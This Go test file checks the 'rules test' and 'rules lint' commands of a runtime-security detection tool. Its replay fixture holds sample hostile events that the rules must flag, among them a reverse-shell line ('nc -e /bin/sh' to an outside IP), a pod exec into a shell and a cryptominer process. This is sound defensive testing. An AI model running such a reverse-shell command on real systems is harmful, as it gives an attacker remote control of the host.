package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// runRulesCmd runs "quell rules ..." through run, or through runRules when
// the command table does not list "rules" yet.
func runRulesCmd(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	var out, errb bytes.Buffer
	registered := false
	for _, c := range commands() {
		registered = registered || c.name == "rules"
	}
	var err error
	if registered {
		err = run(t.Context(), append([]string{"rules"}, args...), &out, &errb, nil)
	} else {
		err = runRules(t.Context(), newCLI(&out, &errb, nil), args)
	}
	return out.String(), errb.String(), err
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

type alertLine struct {
	Event    int      `json:"event"`
	Rule     string   `json:"rule"`
	Priority string   `json:"priority"`
	Source   string   `json:"source"`
	Output   string   `json:"output"`
	Tags     []string `json:"tags"`
}

func decodeAlerts(t *testing.T, out string) []alertLine {
	t.Helper()
	var alerts []alertLine
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		if l == "" {
			continue
		}
		var a alertLine
		if err := json.Unmarshal([]byte(l), &a); err != nil {
			t.Fatalf("bad alert line %q: %v", l, err)
		}
		alerts = append(alerts, a)
	}
	return alerts
}

const replayEvents = `{"source":"syscall","time":"2024-05-01T10:00:00Z","fields":{"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.7 4444","container.id":"ee97d9c4186f","k8s.ns.name":"default","k8s.pod.name":"web-1"}}
{"source":"syscall","time":"2024-05-01T10:00:01Z","fields":{"evt.type":"execve","proc.name":"ncdu","container.id":"ee97d9c4186f"}}
this is not json
{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/default/pods/web-1/exec?command=sh","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"default","name":"web-1"},"stageTimestamp":"2024-05-01T10:00:02.000000Z"}]}
{"source":"syscall","fields":{"user.uid":"root"}}
{"source":"syscall","time":"2024-05-01T10:00:03Z","fields":{"evt.type":"execve","proc.name":"xmrig","container.id":"host"}}
`

func TestRulesTestReplay(t *testing.T) {
	events := writeFile(t, "events.jsonl", replayEvents)
	out, errOut, err := runRulesCmd(t, "test", "--events", events)
	if err != nil {
		t.Fatalf("rules test: %v\nstderr:\n%s", err, errOut)
	}
	got := decodeAlerts(t, out)
	want := []alertLine{
		{Event: 0, Rule: "Launch Suspicious Network Tool in Container", Priority: "Notice", Source: "syscall"},
		{Event: 3, Rule: "Attach/Exec Pod", Priority: "Notice", Source: "k8s_audit"},
		{Event: 5, Rule: "Known Cryptominer Process Executed", Priority: "Critical", Source: "syscall"},
	}
	if diff := cmp.Diff(want, got, cmp.Transformer("strip", func(a alertLine) alertLine {
		a.Output, a.Tags = "", nil
		return a
	})); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
	if !strings.Contains(got[1].Output, "command=sh") || len(got[1].Tags) == 0 {
		t.Errorf("exec alert lacks output or tags: %+v", got[1])
	}
	for _, want := range []string{"events.jsonl:3 (event 2): invalid JSON", "events.jsonl:5 (event 4): field user.uid"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
}

func TestRulesTestNothingFires(t *testing.T) {
	events := writeFile(t, "events.jsonl", `{"source":"syscall","fields":{"evt.type":"execve","proc.name":"ls"}}`+"\n")
	out, _, err := runRulesCmd(t, "test", "--events", events)
	if err != nil || out != "" {
		t.Fatalf("got %q, %v; want no output and exit 0", out, err)
	}
}

func TestRulesTestUserRulesOnly(t *testing.T) {
	ruleFile := writeFile(t, "mine.yaml", `
- rule: Shell in container
  desc: a shell
  condition: evt.type = execve and proc.name in (bash, sh) and container.id != host
  output: shell %proc.name in %container.id
  priority: warning
  tags: [shell]
`)
	events := writeFile(t, "events.jsonl", `{"source":"syscall","fields":{"evt.type":"execve","proc.name":"sh","container.id":"abc"}}
{"source":"syscall","fields":{"evt.type":"execve","proc.name":"nc","container.id":"abc"}}
`)
	out, _, err := runRulesCmd(t, "test", "--events", events, "--rules", ruleFile, "--no-default-rules")
	if err != nil {
		t.Fatal(err)
	}
	want := `{"event":0,"rule":"Shell in container","priority":"Warning","source":"syscall","output":"shell sh in abc","tags":["shell"]}` + "\n"
	if diff := cmp.Diff(want, out); diff != "" {
		t.Errorf("output (-want +got):\n%s", diff)
	}
}

func TestRulesLint(t *testing.T) {
	good := writeFile(t, "good.yaml", `
- list: quell_debug_namespaces
  items: [debug]
  override:
    items: append
`)
	out, _, err := runRulesCmd(t, "lint", good)
	if err != nil {
		t.Fatalf("lint good: %v\n%s", err, out)
	}
	if !strings.Contains(out, "rules loaded") {
		t.Errorf("no summary:\n%s", out)
	}

	bad := writeFile(t, "bad.yaml", `- rule: Broken
  desc: broken
  condition: evt.type = execve and (proc.name = nc
  output: x
  priority: loud
- rule: Uses unknown macro
  desc: x
  condition: evt.type = execve and no_such_macro
  output: x
  priority: notice
- rule: Unsupported field
  desc: x
  condition: evt.type = execve and proc.nosuchfield = 1
  output: x
  priority: notice
`)
	out, _, err = runRulesCmd(t, "lint", "--no-default-rules", bad)
	if exitCode(err) != 1 {
		t.Fatalf("lint bad: exit %d (%v), want 1\n%s", exitCode(err), err, out)
	}
	for _, want := range []string{
		bad + `:5:13: invalid priority "loud"`,
		bad + ":8:36: rule 'Uses unknown macro': undefined macro 'no_such_macro' used in filter",
		`skipped "Unsupported field"`,
		`field "proc.nosuchfield" is not supported for source "syscall"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("lint output lacks %q:\n%s", want, out)
		}
	}
}
